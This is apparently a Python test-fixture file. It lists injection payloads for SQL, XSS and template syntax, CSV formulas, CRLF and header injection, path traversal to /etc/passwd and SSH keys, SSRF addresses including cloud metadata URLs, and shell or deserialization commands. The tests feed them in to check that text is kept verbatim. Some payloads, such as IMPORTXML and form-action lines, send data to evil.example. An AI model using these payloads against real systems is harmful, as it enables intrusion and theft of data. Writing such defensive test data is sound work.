"""What means something to somebody further on: it is text, kept and shown as it is."""

from tests.input.corpus.rows import Row, numbered, rows

SQL = [
    "'", "''", "\"", "' OR '1'='1", "' OR 1=1--", "\" OR \"\"=\"", "'; DROP TABLE accounts_user; --", "1; SELECT pg_sleep(9)--",
    "' UNION SELECT password FROM accounts_user--", "%' OR 'a' LIKE '%", "\\'; --", "$$; SELECT 1; $$", "'||(SELECT version())||'",
    "'; COPY accounts_user TO PROGRAM 'id'; --", "1 AND 1=(SELECT COUNT(*) FROM accounts_user)", "admin'/*", "*/ OR /*", "';--\x0b", "%", "_", "%%%", "\\%", "[a-z]%",
    "' AND extractvalue(1,1)--", "') OR ('a'='a", "`; --", "0x27", "CHR(39)", "; SET ROLE postgres", "E'\\x27'",
]  # fmt: skip
HTML = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</script><script>alert(1)</script>", "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<math><mtext></mtext></math><img src onerror=alert(1)>", "<!--<script>", "]]><script>alert(1)</script>", "<style>@import'x'</style>",
    "<base href=//evil.example>", "<form action=//evil.example>", "<meta http-equiv=refresh content=0>", "{{7*7}}", "{% load x %}", "{{ request.user.password }}", "${7*7}", "<%= 7*7 %>", "#{7*7}",
    "&lt;script&gt;", "&#x3C;script&#x3E;", "\u003cscript\u003e", "＜script＞alert(1)＜/script＞", "<scr\u0000ipt>".replace("\u0000", "\u200b"), "on\u00adclick=x",
    "<div style=width:expression(alert(1))>", "<object data=x>", "<link rel=stylesheet href=//evil.example>", "data:text/html,<script>alert(1)</script>", "[x](javascript:alert(1))",
]  # fmt: skip
CSV = [
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-1+1", "=HYPERLINK(\"http://evil.example\")", "\t=1+1", "\r=1+1", "\n=1+1", ";=1+1", ",=1+1", "\"=1+1\"",
    "=IMPORTXML(CONCAT(\"http://evil.example\"))", "%=1", "|calc", "＝1+1",
]  # fmt: skip
LINES = [
    "a\r\nBcc: all@evil.example", "a\nSet-Cookie: a=b", "a\r\n\r\n<html>", "a%0d%0aX: y", "a\u2028b", "a\u0085b", "a\x0bb", "a\rb", "\r\n.\r\nMAIL FROM:<x@evil.example>", "a\x1b[31mred", "a\x08\x08\x08b", "\n\nlevel=ERROR root signed in",
]  # fmt: skip
PATHS = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "....//....//etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e", "file:///etc/passwd", "/proc/self/environ", "C:\\boot.ini", "\\\\evil.example\\share",
    "..;/admin", "/admin/..;/", "photos/../../private", "private:../x", "~root/.ssh/id_rsa", "/dev/random",
]  # fmt: skip
# PORT becomes a port of the test's own, at which nobody may ring.
ADDRESSES = [
    "http://127.0.0.1:PORT/", "http://localhost:PORT/", "http://[::1]:PORT/", "http://0.0.0.0:PORT/", "http://0:PORT/", "http://2130706433:PORT/", "http://0x7f.1:PORT/", "http://127.1:PORT/",
    "http://user@127.0.0.1:PORT/", "http://fcm.googleapis.com@127.0.0.1:PORT/", "http://127.0.0.1:PORT#fcm.googleapis.com", "https://127.0.0.1:PORT/", "ftp://127.0.0.1:PORT/", "gopher://127.0.0.1:PORT/_x", "dict://127.0.0.1:PORT/",
    "//127.0.0.1:PORT/", "http:127.0.0.1:PORT", "http://127.0.0.1:PORT/\u3002", "\\\\127.0.0.1@PORT\\x", "http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/",
    "<img src=http://127.0.0.1:PORT/>", "url(http://127.0.0.1:PORT/)", "![](http://127.0.0.1:PORT/)", "jar:http://127.0.0.1:PORT!/",
]  # fmt: skip
COMMANDS = [
    "; id", "| id", "$(id)", "`id`", "&& id", "\n id", "() { :; }; id", "-rf /", "--help", "%x(id)", "__import__('os').system('id')", "{\"$gt\": \"\"}", "*)(uid=*", "!!python/object/apply:os.system [id]",
    "O:8:\"stdClass\":0:{}", "rO0ABXNyAA==",
]  # fmt: skip

GROUPS = {
    "SQL": SQL,
    "HTML": HTML,
    "CSV": CSV,
    "line": LINES,
    "path": PATHS,
    "address": ADDRESSES,
    "command": COMMANDS,
}
ROWS: list[Row] = [
    row for name, values in GROUPS.items() for row in rows("injection", numbered(name, values))
]  # fmt: skip
